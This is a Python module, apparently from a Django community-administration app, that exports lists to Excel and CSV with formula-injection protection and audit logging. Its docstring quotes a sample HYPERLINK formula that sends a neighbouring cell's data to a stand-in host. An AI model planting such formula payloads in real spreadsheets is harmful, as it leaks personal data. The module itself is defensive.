"""Excel (.xlsx) export shared by every list a clerk keeps, safe to open whatever the cells say.

A cell whose text starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) is one a spreadsheet
program may run as a formula: a resident who calls herself ``=HYPERLINK("http://x/?"&A2, "点击")`` would
otherwise get a live link, or a DDE command, into the export a clerk opens. Every string cell that starts
so is written as text with Excel's quote prefix (the cell shows exactly the text and stays text when it is
edited); numbers are never touched, so a negative amount stays a number. A CSV has no cell types, so
:func:`csv_cell` puts an apostrophe before such text instead.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote

from django.http import StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _text_cell(sheet: Any, value: str, font: Font | None = None) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl makes "=..." a formula; this keeps it the text it is
    cell.quotePrefix = True
    if font is not None:
        cell.font = font
    return cell


def _safe_row(sheet: Any, row: Sequence[Any]) -> list[Any]:
    values = list(row)
    for position, value in enumerate(values):
        if is_formula_like(value):
            values[position] = _text_cell(sheet, value)
    return values


def csv_cell(value: Any) -> Any:
    """A value for a CSV export: text a spreadsheet could run as a formula gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def write_workbook(target: Any, *, title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write one sheet to a path or file object; write-only mode keeps memory flat for large exports."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    bold = Font(bold=True)
    header_cells = []
    for header in headers:
        if is_formula_like(str(header)):
            header_cells.append(_text_cell(sheet, str(header), bold))
            continue
        cell = WriteOnlyCell(sheet, value=str(header))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        sheet.append(_safe_row(sheet, row))
    workbook.save(target)


def xlsx_response(filename: str, *, title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> Any:
    buffer = io.BytesIO()
    write_workbook(buffer, title=title, headers=headers, rows=rows)
    buffer.seek(0)
    response = StreamingHttpResponse(buffer, content_type=XLSX)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    return response


def personal_data_xlsx(*, actor: Any, what: str, filename: str, title: str, headers: Sequence[str],
                       rows: Iterable[Sequence[Any]], filters: dict[str, Any] | None = None,
                       reason: str = "") -> Any:
    """An export that names people, audited like a reveal: who, what, how many rows, with which filters, why.

    The workbook is built in full before the response is returned, so the count in the audit entry is final."""
    from shequ.core.actions import record_export

    exported = 0

    def counted() -> Iterable[Sequence[Any]]:
        nonlocal exported
        for row in rows:
            exported += 1
            yield row

    response = xlsx_response(filename, title=title, headers=headers, rows=counted())
    record_export(actor=actor, what=what, rows=exported, reason=reason[:500],
                  filters={key: str(value) for key, value in (filters or {}).items() if value})
    return response
